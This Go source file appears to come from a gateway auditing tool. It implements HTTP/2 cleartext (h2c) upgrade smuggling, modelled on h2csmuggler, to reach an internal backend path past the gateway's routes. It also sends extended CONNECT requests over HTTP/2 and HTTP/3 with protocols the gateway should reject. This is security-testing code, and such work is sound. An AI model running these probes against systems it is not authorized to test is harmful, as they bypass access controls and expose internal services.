package audit

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// runH2C asks for `Upgrade: h2c` as h2csmuggler does and, given a 101,
// speaks HTTP/2 through the tunnel to fetch InternalPath: the proof that a
// client reaches the backend past every route of the gateway.
func (cfg *Config) runH2C(ctx context.Context, a Attack) *Observation {
	o := &Observation{AttackURI: cfg.uri(a.ID, "atk", a.Answer)}
	mark, canary := cfg.mark(ctx, o)
	wire := rawRequest(a.Method, o.AttackURI, a.Proto, cfg.Target.Host, a.Lines(Env{Key: NewKey(), Origin: cfg.Origin}))
	conn, br := cfg.send(ctx, o, wire)
	if conn == nil {
		return o
	}
	defer conn.Close()
	o.Res, o.ResErr = readResponse(conn, br, a.Method, cfg.Timeout)
	if o.Res != nil && o.Res.StatusCode == http.StatusSwitchingProtocols {
		o.Got101 = true
		o.Internal = cfg.h2cFetch(conn, br)
	}
	if canary {
		cfg.observeBackend(ctx, o, mark, a, conn)
	}
	return o
}

// h2cFetch sends the HTTP/2 preface and a GET of InternalPath on stream 3
// (stream 1 is the upgraded request, RFC 7540 §3.2) and reads its answer.
func (cfg *Config) h2cFetch(conn net.Conn, br *bufio.Reader) *H2Answer {
	conn.SetDeadline(time.Now().Add(cfg.Timeout))
	defer conn.SetDeadline(time.Time{})
	fr := http2.NewFramer(conn, br)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return &H2Answer{Path: cfg.InternalPath, Err: err}
	}
	if err := fr.WriteSettings(); err != nil {
		return &H2Answer{Path: cfg.InternalPath, Err: err}
	}
	const stream = 3
	if err := writeHeaders(fr, stream, true, [][2]string{
		{":method", "GET"}, {":scheme", "http"}, {":authority", cfg.Target.Host}, {":path", cfg.InternalPath},
	}); err != nil {
		return &H2Answer{Path: cfg.InternalPath, Err: err}
	}
	ans := &H2Answer{Path: cfg.InternalPath}
	var body bytes.Buffer
	ans.Err = readStream(fr, stream, func(f *http2.MetaHeadersFrame) bool {
		ans.Status, _ = strconv.Atoi(f.PseudoValue("status"))
		return f.StreamEnded()
	}, func(f *http2.DataFrame) bool {
		if body.Len() < 4096 {
			body.Write(f.Data())
		}
		if f.StreamEnded() {
			ans.Body = body.String()
		}
		return f.StreamEnded()
	})
	return ans
}

// readStream reads frames, answering the connection's SETTINGS and PING,
// and hands stream's headers and data to the callbacks until one of them
// says done; a reset of the stream, GOAWAY or the end of the connection
// is the error.
func readStream(fr *http2.Framer, stream uint32, headers func(*http2.MetaHeadersFrame) bool, data func(*http2.DataFrame) bool) error {
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				fr.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				fr.WritePing(true, f.Data)
			}
		case *http2.MetaHeadersFrame:
			if f.StreamID == stream && headers(f) {
				return nil
			}
		case *http2.DataFrame:
			if f.StreamID == stream && data != nil && data(f) {
				return nil
			}
		case *http2.RSTStreamFrame:
			if f.StreamID == stream {
				return fmt.Errorf("stream reset: %v", f.ErrCode)
			}
		case *http2.GoAwayFrame:
			return fmt.Errorf("GOAWAY: %v", f.ErrCode)
		}
	}
}

func writeHeaders(fr *http2.Framer, stream uint32, end bool, fields [][2]string) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: block.Bytes(), EndStream: end, EndHeaders: true,
	})
}

// runH2 sends an extended CONNECT (RFC 8441) with a :protocol no route
// has a reason to allow, over TLS with ALPN h2 for https and with prior
// knowledge (h2c) for http.
func (cfg *Config) runH2(ctx context.Context, a Attack) *Observation {
	o := &Observation{AttackURI: cfg.uri(a.ID, "atk", a.Answer)}
	mark, canary := cfg.mark(ctx, o)
	conn, err := cfg.dial(ctx, http2.NextProtoTLS)
	if err != nil {
		o.DialErr = err
		return o
	}
	defer conn.Close()
	if tc, ok := conn.(*tls.Conn); ok && tc.ConnectionState().NegotiatedProtocol != http2.NextProtoTLS {
		o.Unavailable = "the server did not negotiate HTTP/2 (ALPN h2)"
		return o
	}
	conn.SetDeadline(time.Now().Add(cfg.Timeout))
	br := bufio.NewReader(conn)
	fr := http2.NewFramer(conn, br)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	io.WriteString(conn, http2.ClientPreface)
	fr.WriteSettings()
	f, err := fr.ReadFrame()
	sf, ok := f.(*http2.SettingsFrame)
	if err != nil || !ok {
		if cfg.Target.Scheme == "http" {
			o.Unavailable = "no HTTP/2 with prior knowledge (h2c) on this port"
		} else {
			o.Unavailable = "no HTTP/2 SETTINGS from the server"
		}
		return o
	}
	if v, ok := sf.Value(http2.SettingEnableConnectProtocol); ok && v == 1 {
		o.XConnectAdvertised = true
	}
	fr.WriteSettingsAck()
	scheme := cfg.Target.Scheme
	err = writeHeaders(fr, 1, false, [][2]string{
		{":method", http.MethodConnect}, {":protocol", a.Protocol}, {":scheme", scheme},
		{":authority", cfg.Target.Host}, {":path", o.AttackURI},
	})
	if err != nil {
		o.ResErr = err
		return o
	}
	o.Res, o.ResErr = readH2Response(fr, 1)
	conn.Close()
	if canary {
		cfg.observeBackend(ctx, o, mark, a, nil)
	}
	return o
}

// readH2Response reads frames until the response head of stream, a reset
// of it, or the end of the connection.
func readH2Response(fr *http2.Framer, stream uint32) (*Response, error) {
	var res *Response
	err := readStream(fr, stream, func(f *http2.MetaHeadersFrame) bool {
		status, _ := strconv.Atoi(f.PseudoValue("status"))
		h := http.Header{}
		for _, hf := range f.RegularFields() {
			h.Add(hf.Name, hf.Value)
		}
		res = &Response{Response: &http.Response{StatusCode: status, Status: strconv.Itoa(status), Header: h, Proto: "HTTP/2.0"}}
		return true
	}, nil)
	return res, err
}

// runH3 sends an extended CONNECT over HTTP/3 (RFC 9220) to the target's
// host and port over UDP.
func (cfg *Config) runH3(ctx context.Context, a Attack) *Observation {
	o := &Observation{AttackURI: cfg.uri(a.ID, "atk", a.Answer)}
	if cfg.Target.Scheme != "https" {
		o.Unavailable = "HTTP/3 needs an https URL"
		return o
	}
	mark, canary := cfg.mark(ctx, o)
	dctx, cancel := context.WithTimeout(ctx, cfg.Timeout)
	defer cancel()
	tc := cfg.tlsConfig(http3.NextProtoH3)
	qc, err := quic.DialAddr(dctx, cfg.hostport(), tc, &quic.Config{HandshakeIdleTimeout: cfg.Timeout, MaxIdleTimeout: 2 * cfg.Timeout})
	if err != nil {
		o.Unavailable = "no HTTP/3 (QUIC) on UDP " + cfg.hostport() + ": " + err.Error()
		return o
	}
	defer qc.CloseWithError(0, "")
	cc := (&http3.Transport{}).NewClientConn(qc)
	select {
	case <-cc.ReceivedSettings():
		o.XConnectAdvertised = cc.Settings().EnableExtendedConnect
	case <-dctx.Done():
		o.Unavailable = "no HTTP/3 SETTINGS from the server"
		return o
	}
	str, err := cc.OpenRequestStream(dctx)
	if err != nil {
		o.ResErr = err
		return o
	}
	req, err := http.NewRequest(http.MethodConnect, cfg.Target.Scheme+"://"+cfg.Target.Host+o.AttackURI, nil)
	if err != nil {
		o.ResErr = err
		return o
	}
	req.Proto = a.Protocol // quic-go sends a CONNECT's Proto as :protocol
	if err := str.SendRequestHeader(req); err != nil {
		o.ResErr = err
		return o
	}
	str.SetReadDeadline(time.Now().Add(cfg.Timeout))
	res, err := str.ReadResponse()
	if err != nil {
		var se *quic.StreamError
		if errors.As(err, &se) {
			err = fmt.Errorf("stream reset: %v", se.ErrorCode)
		}
		o.ResErr = err
	} else {
		o.Res = &Response{Response: res}
	}
	str.CancelRead(0)
	str.Close()
	if canary {
		cfg.observeBackend(ctx, o, mark, a, nil)
	}
	return o
}
